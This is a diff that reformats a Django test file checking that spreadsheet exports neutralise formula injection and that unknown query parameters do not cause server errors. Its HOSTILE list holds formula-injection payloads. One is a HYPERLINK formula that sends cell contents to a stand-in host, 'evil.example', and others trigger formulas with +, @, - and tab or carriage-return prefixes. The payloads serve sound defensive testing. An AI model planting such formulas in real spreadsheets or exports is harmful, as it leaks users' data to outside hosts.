@@ -1,4 +1,5 @@
 """Spreadsheet exports neutralise formulas and answer bad list parameters (issue 9)."""
+
 import csv
 import io
 
@@ -11,8 +12,14 @@ from accounts.exports import neutralise_formula
 from accounts.models import OfficialAccount
 from accounts.tests.factories import EntityFactory, OfficialAccountFactory, UserFactory
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "+SUM(1,2)", "-2+3",
-           "@SUM(A1)", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
+    "+SUM(1,2)",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("value", HOSTILE)
@@ -36,10 +43,14 @@ def test_account_export_neutralises_formulas_in_names(admin_client, fmt):
     entity = EntityFactory(full_name=HOSTILE[0])
     OfficialAccountFactory(entity=entity, name="+SUM(1,2)")
     OfficialAccountFactory(entity=EntityFactory(full_name="@SUM(A1)"), name="-2+3")
-    response = admin_client.post(reverse("admin:accounts_officialaccount_export"), {
-        "format": export_format_index(OfficialAccount, fmt), "resource": "0",
-        **{f"officialaccountexportresource_{name}": "on" for name in ("entity", "name", "appid")},
-    })
+    response = admin_client.post(
+        reverse("admin:accounts_officialaccount_export"),
+        {
+            "format": export_format_index(OfficialAccount, fmt),
+            "resource": "0",
+            **{f"officialaccountexportresource_{name}": "on" for name in ("entity", "name", "appid")},
+        },
+    )
     assert response.status_code == 200
     if fmt == "csv":
         rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
@@ -64,8 +75,15 @@ def test_order_export_neutralises_formulas_too():
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize("query", ["foo=bar", "status__exact=zzz&nonsense=1", "account__id__exact=abc",
-                                   "review_company__id__exact=99999999999999999999999"])
+@pytest.mark.parametrize(
+    "query",
+    [
+        "foo=bar",
+        "status__exact=zzz&nonsense=1",
+        "account__id__exact=abc",
+        "review_company__id__exact=99999999999999999999999",
+    ],
+)
 def test_order_export_with_an_unknown_parameter_answers_without_a_500(client, query):
     finance = UserFactory(groups=["Finance"])
     client.force_login(finance)
